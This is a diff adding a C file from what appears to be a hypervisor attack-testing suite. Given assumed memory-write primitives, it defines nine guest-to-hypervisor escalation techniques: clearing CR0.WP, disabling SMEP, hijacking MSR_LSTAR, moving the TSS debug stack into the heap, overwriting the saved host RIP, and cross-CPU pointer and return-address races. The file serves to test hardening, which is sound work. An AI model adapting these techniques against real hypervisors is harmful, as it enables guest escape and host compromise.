@@ -1,0 +1,172 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * The processor's state: control registers, MSRs, and what it saves to memory and loads again; and races between two
+ * CPUs for one function pointer or return word.
+ */
+#define _GNU_SOURCE
+#include "attacker.h"
+
+#include <signal.h>
+#include <string.h>
+
+#define SMEP (1UL << 20)
+#define WP (1UL << 16)
+#define STACK_SIZE 0x8000UL
+#define HOST_RIP 0x578 /* in the page where VMRUN saves the host's state, as in a VMCB */
+
+/* ---- control registers ---- */
+
+/* Where code writes %rax to CR0: the gate's only such place when there is a gate. */
+static word cr0_write(void)
+{
+    word at = code("do_fpu_taskswitch"), end = at + 256;
+
+    for ( ; at < end; at++ )
+        if ( (peek(at) & 0xffffff) == 0xc0220f )
+            return at;
+    fail("no write to CR0 in do_fpu_taskswitch");
+}
+
+static void cr0_middle(word place)
+{
+    poke(data("attack_args"), fact(FACT_CR0, 0) & ~WP);
+    poke(data("attack_args") + 8, code("attack_won_if_unprotected"));
+    cause(CAUSE_OVERFLOW, place);
+}
+
+static void cr0_code(void) { cr0_middle(cr0_write()); }
+static void cr0_gate(void) { cr0_middle(has_code("hs_gate_open") ? code("hs_gate_open") : cr0_write()); }
+
+/* Without SMEP the hypervisor can be sent to code of a guest's. */
+static void go_to_guest(void)
+{
+    poke(data("attack_call"), (word)own_jump(won()));
+    cause(CAUSE_CALL, 0);
+}
+
+static void cr4_call(void)
+{
+    word cr4 = peek(fact(FACT_CR4_CACHE, 0));
+
+    if ( !(cr4 & SMEP) )
+        fail("SMEP is not on");
+    call(code("switch_cr3_cr4"), fact(FACT_CR3, 0), cr4 & ~SMEP);
+    go_to_guest();
+}
+
+static void cr4_cache(void)
+{
+    word at = fact(FACT_CR4_CACHE, 0), cr4 = peek(at);
+
+    if ( !(cr4 & SMEP) )
+        fail("SMEP is not on");
+    poke(at, cr4 & ~SMEP);
+    cause(CAUSE_RELOAD_CR3, 0);
+    go_to_guest();
+}
+
+/* The function that sets MSR_LSTAR for a CPU takes the address from memory; the next system call goes there. */
+static void lstar(void)
+{
+    poke(per_cpu("stubs", 0), won_anywhere());
+    call(code("percpu_traps_init"), 0, 0);
+    pause_ms(10);
+}
+
+/* ---- what the processor saves and loads ---- */
+
+static void *debug_exceptions(void *unused)
+{
+    struct sigaction ignore = { .sa_handler = SIG_IGN };
+
+    on_cpu(1);
+    sigaction(SIGTRAP, &ignore, NULL);
+    for ( ; ; )
+        asm volatile (".byte 0xf1");
+    return unused;
+}
+
+/* Debug exceptions get a stack in the heap, and there the frame that they return by is overwritten. */
+static void tss(void)
+{
+    word heap = heap_pages(3), top = heap + 0x1000, end = heap + STACK_SIZE, own = fact(FACT_GUEST_FRAME, 0) | (STACK_SIZE - 1);
+    word other = peek(data("stack_base") + 8) + STACK_SIZE - 512, ist = per_cpu("tss_page", 1) + fact(FACT_IST_DEBUG, 0);
+    word copy = end - 1 - own + fact(FACT_GUEST_FRAME, 0); /* where the frame of the guest is copied to */
+
+    copy_words(end - 512, other, 64);
+    hammer(0, top - 40, won_anywhere(), won_anywhere());
+    hammer(1, top - 32, XEN_CS, XEN_CS);
+    hammer(2, top - 8, 0, 0);
+    hammer(3, copy, won_anywhere(), won_anywhere());
+    hammer(4, copy + 8, XEN_CS, XEN_CS);
+    hammer(5, copy + 32, 0, 0);
+    poke(data("attack_go"), 0);
+    poke4(ist, top);
+    poke4(ist + 4, top >> 32);
+    start_on_other_cpu(debug_exceptions);
+    cause(CAUSE_HAMMER, 0);
+}
+
+static void *guest_loop(void *unused)
+{
+    on_cpu(1);
+    for ( ; ; )
+        asm volatile ("pause");
+    return unused;
+}
+
+static void host_state(void)
+{
+    word at = directmap_of(peek(per_cpu("hsa", 1))) + HOST_RIP;
+    int i;
+
+    start_on_other_cpu(guest_loop);
+    pause_ms(100);
+    for ( i = 0; i < 2000; i++ )
+        poke(at, won());
+}
+
+/* ---- races ---- */
+
+/* The pointer is good half of the time, so that whoever checks it and then reads it again is fooled. */
+static void pointer_race(void)
+{
+    word at = fact(FACT_NOTIFIER_FUNCTION, 0);
+    int i;
+
+    hammer(0, at, peek(at), pointer(POINTER_ALIEN));
+    hold_other_cpu(CAUSE_HAMMER);
+    for ( i = 0; i < 3000; i++ )
+        cause(CAUSE_NOTIFIER, 1);
+    release_other_cpu();
+}
+
+static void return_race(void)
+{
+    word slot, good;
+
+    hold_other_cpu(CAUSE_WAIT);
+    slot = peek(data("attack_slot"));
+    good = peek(slot);
+    release_other_cpu();
+    /* The same call on this CPU's stack, which is laid out alike, while the other CPU writes there. */
+    slot = peek(data("stack_base")) + (slot & (STACK_SIZE - 1));
+    hammer(0, slot, good, pointer(POINTER_ALIEN));
+    hold_other_cpu(CAUSE_HAMMER);
+    for ( int i = 0; i < 3000; i++ )
+        cause(CAUSE_RETURN, good);
+    release_other_cpu();
+}
+
+const struct attack state_attacks[] = {
+    { "cr0-code", "a chain of return words clears CR0.WP by code of the hypervisor that writes CR0", cr0_code },
+    { "cr0-gate", "a chain of return words goes to the middle of the code that may clear CR0.WP", cr0_gate },
+    { "cr4-call", "the function that loads CR4 is called to switch SMEP off, for code of a guest's", cr4_call },
+    { "cr4-cache", "what the hypervisor believes CR4 to be loses SMEP, for code of a guest's", cr4_cache },
+    { "lstar", "the function that sets MSR_LSTAR is called after its argument in memory was changed", lstar },
+    { "tss-stack", "the TSS gives debug exceptions a stack in the heap, whose frames are overwritten", tss },
+    { "host-state", "the RIP that the processor loads when a PVH guest exits is overwritten", host_state, 1 },
+    { "pointer-race", "a function pointer is good and bad in turn, by the other CPU, while it is called", pointer_race },
+    { "return-race", "a return word is good and bad in turn, by the other CPU, while its function returns", return_race },
+    { 0 }
+};
